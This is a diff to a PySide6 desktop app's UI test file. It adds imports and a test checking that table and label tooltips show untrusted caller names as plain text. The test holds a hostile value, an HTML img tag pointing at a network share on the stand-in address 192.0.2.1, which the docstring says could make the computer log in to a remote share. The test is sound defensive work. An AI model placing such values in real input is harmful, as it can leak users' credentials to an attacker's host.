@@ -4,11 +4,11 @@ from __future__ import annotations
 
 import pytest
 from PySide6.QtCore import QPoint, Qt
-from PySide6.QtGui import QGuiApplication
+from PySide6.QtGui import QGuiApplication, QTextDocument
 from PySide6.QtWidgets import QLabel, QLineEdit, QWidget
 
 from azdesk.ui import clipboard as forgetting
-from azdesk.ui.viewmodels import State, TabModel, TreeItem, TreeKind
+from azdesk.ui.viewmodels import State, TableRow, TabModel, TreeItem, TreeKind
 from azdesk.ui.widgets import password_edit
 from azdesk.ui.widgets.banner import Banner
 from azdesk.ui.widgets.field_row import FieldRow
@@ -18,6 +18,7 @@ from azdesk.ui.widgets.host_grid import HostGrid
 from azdesk.ui.widgets.labels import ElidedLabel, RelativeTime
 from azdesk.ui.widgets.matrix_view import MatrixView
 from azdesk.ui.widgets.password_edit import PasswordEdit
+from azdesk.ui.widgets.plain_table import PlainTable
 from azdesk.ui.widgets.side_tabs import SideTabs
 from tests.ui import samples
 from tests.ui.conftest import settle
@@ -352,3 +353,17 @@ def test_banner_says_and_closes(shown, qtbot):
     with qtbot.waitSignal(banner.closed):
         qtbot.mouseClick(banner._close, Qt.MouseButton.LeftButton)
     assert not banner.isVisible()
+
+
+def test_tips_show_words_of_others_as_they_are(shown):
+    """A picture in a tip is fetched from wherever it says: a caller's name could make this computer log in to another one's share."""
+    evil = '<img src="//192.0.2.1/share/x.png"> & co'
+    table = shown(PlainTable("calls", ("Caller",), (80,)), 200, 100)
+    table.set_rows((TableRow(key="1", cells=(evil,)), TableRow(key="2", cells=("a & b",))))
+    tips = [table.model().index(row, 0).data(Qt.ItemDataRole.ToolTipRole) for row in (0, 1)]
+    label = shown(ElidedLabel(text=evil), 40, 20)
+    for tip in (tips[0], label.toolTip()):
+        document = QTextDocument()
+        document.setHtml(tip)
+        assert document.toPlainText() == evil
+    assert tips[1] == "a & b"
